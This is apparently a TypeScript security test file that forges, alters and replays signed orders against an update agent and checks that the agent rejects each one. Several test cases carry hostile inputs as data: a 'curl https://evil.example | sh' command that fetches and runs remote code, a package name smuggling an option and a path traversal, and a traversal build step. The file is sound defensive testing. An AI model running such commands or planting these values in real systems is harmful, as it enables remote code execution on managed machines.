import { TRANSACTION } from '@thimble/agent/testing';
import type { Envelope, Order } from '@thimble/protocol';
import { generateSigningKey, signEnvelope, type SigningKey } from '@thimble/protocol/signing';
import type { Attack, AttackFamily, Attempt } from '../attack.ts';
import { outcomeOf, plantOrder } from '../target/plant-order.ts';
import { applyBody, enrolRealAgent, orderFor, printOrder, type RealAgent } from '../target/real-agent.ts';
import type { Target } from '../target/target.ts';

interface Scene {
  readonly target: Target;
  readonly agent: RealAgent;
  /** An order as the server would sign it. */
  readonly order: Order;
  /** The server's own key, stolen. */
  readonly stolen: SigningKey;
}

const seal = (order: unknown, key: SigningKey): Envelope => {
  const { payloadType, payload } = printOrder(order);
  return signEnvelope(payloadType, payload, [key]);
};

/** Whoever has the database puts an envelope there that no endpoint may take for an order; it counts what it rejects. */
function rejected(name: string, refusal: string, forge: (scene: Scene) => Envelope): Attack {
  return {
    name,
    refusal,
    record: 'agent journal',
    attempt: (target) =>
      withAgent(target, async (scene) => {
        await plantOrder(target, scene.agent, forge(scene));
        await scene.agent.run();
        const { rejected: counts } = await scene.agent.status();
        if (scene.agent.installed() > 0) return { refusal: 'installed', isRecorded: false };
        return { refusal: Object.keys(counts).join(), isRecorded: Object.values(counts).includes(1) };
      }),
  };
}

/** Whoever has the server's keys as well gets a signed answer of the endpoint, which is evidence. */
function refused(name: string, refusal: string, change: (scene: Scene) => Partial<Order>): Attack {
  return {
    name,
    refusal,
    record: 'order outcome',
    attempt: (target) =>
      withAgent(target, async (scene) => {
        const order = { ...scene.order, ...change(scene) };
        const { id, generation } = order;
        await plantOrder(target, scene.agent, seal(order, scene.stolen), { id, generation });
        await scene.agent.run();
        if (scene.agent.installed() > 0) return { refusal: 'installed', isRecorded: false };
        const outcome = await outcomeOf(target, id);
        return {
          refusal: outcome?.kind === 'refused' ? outcome.code : (outcome?.kind ?? 'no answer'),
          isRecorded: outcome !== undefined,
        };
      }),
  };
}

async function withAgent(target: Target, use: (scene: Scene) => Promise<Attempt>): Promise<Attempt> {
  const agent = await enrolRealAgent(target);
  try {
    const order = orderFor(target, agent);
    return await use({ target, agent, order, stolen: target.server.context.orderKey });
  } finally {
    await agent.remove();
  }
}

export const orders: AttackFamily = {
  name: 'orders',
  attacks: [
    rejected('forged: signed by a key of the attacker', 'bad-signature', ({ order }) =>
      seal(order, generateSigningKey()),
    ),
    rejected('forged: signed by a key of the attacker under the name of the server’s', 'bad-signature', (scene) =>
      seal(scene.order, { ...generateSigningKey(), keyid: scene.stolen.keyid }),
    ),
    rejected('altered: another payload under a genuine signature', 'bad-signature', ({ order, stolen }) => ({
      ...seal({ ...order, body: { kind: 'scan' } }, stolen),
      payload: Buffer.from(JSON.stringify(order)).toString('base64'),
    })),
    rejected('algorithm confusion: the key’s name with an empty signature', 'bad-signature', ({ order, stolen }) => ({
      ...seal(order, stolen),
      signatures: [{ keyid: stolen.keyid, sig: '' }],
    })),
    rejected('type confusion: the server’s signature over something that is no order', 'malformed', (scene) =>
      signEnvelope('application/vnd.thimble.ticket+json', Buffer.from(JSON.stringify(scene.order)), [scene.stolen]),
    ),
    rejected('type confusion: that signature under the type of orders', 'bad-signature', ({ order, stolen }) => ({
      ...signEnvelope('application/vnd.thimble.ticket+json', Buffer.from(JSON.stringify(order)), [stolen]),
      payloadType: printOrder(order).payloadType,
    })),
    rejected('two readings: base64 that another decoder reads differently', 'malformed', ({ order, stolen }) => {
      const envelope = seal(order, stolen);
      return { ...envelope, payload: `${envelope.payload}\n` };
    }),
    rejected('the order of another endpoint', 'wrong-endpoint', ({ order, target, stolen }) =>
      seal({ ...order, endpointId: target.server.context.newId() }, stolen),
    ),
    rejected('the order of another organisation', 'wrong-endpoint', ({ order, target, stolen }) =>
      seal({ ...order, organisationId: target.server.context.newId() }, stolen),
    ),
    refused('stolen key: an order of an older generation', 'stale-generation', () => ({ generation: 0 })),
    refused('stolen key: an order that has expired', 'expired', () => ({ expiresAt: '2020-01-01T00:00:00.000Z' })),
    refused('stolen key: another transaction than the one that was approved', 'digest-mismatch', () => ({
      body: { ...applyBody(TRANSACTION), transactionDigest: 'f'.repeat(64) },
    })),
    refused('stolen key: a free command', 'malformed', () => ({
      body: JSON.parse('{"kind":"run","command":"curl https://evil.example | sh"}'),
    })),
    refused('stolen key: a package name that is an option or a path', 'malformed', () => ({
      body: withName('--allow-unauthenticated ../../tmp/evil.deb'),
    })),
    refused('stolen key: a step that is a path and not a name of the endpoint’s list', 'malformed', () => ({
      body: withSteps(['../../../tmp/evil']),
    })),
    refused('stolen key: a step that the endpoint does not allow', 'step-not-allowed', () => ({
      body: withSteps(['not-on-the-list']),
    })),
    {
      name: 'replay: a genuine order that was carried out is served again under other names',
      refusal: 'done once',
      record: 'order outcome',
      attempt: (target) =>
        withAgent(target, async ({ agent, order, stolen }) => {
          const envelope = seal(order, stolen);
          await plantOrder(target, agent, envelope, { id: order.id, generation: order.generation });
          await agent.run();
          for (let again = 0; again < 2; again += 1) {
            await plantOrder(target, agent, envelope);
            await agent.run();
          }
          const outcome = await outcomeOf(target, order.id);
          return {
            refusal: agent.installed() === 1 ? 'done once' : `done ${agent.installed()} times`,
            isRecorded: outcome?.kind === 'applied',
          };
        }),
    },
  ],
};

function withName(name: string): Order['body'] {
  const changes = TRANSACTION.changes.map((change) => ({ ...change, name }));
  return applyBody({ ...TRANSACTION, changes });
}

function withSteps(before: readonly string[]): Order['body'] {
  const deploy = { before: [...before], after: [], fileSystemSnapshot: 'none' as const, checks: [] };
  return { ...applyBody(TRANSACTION), deploy };
}
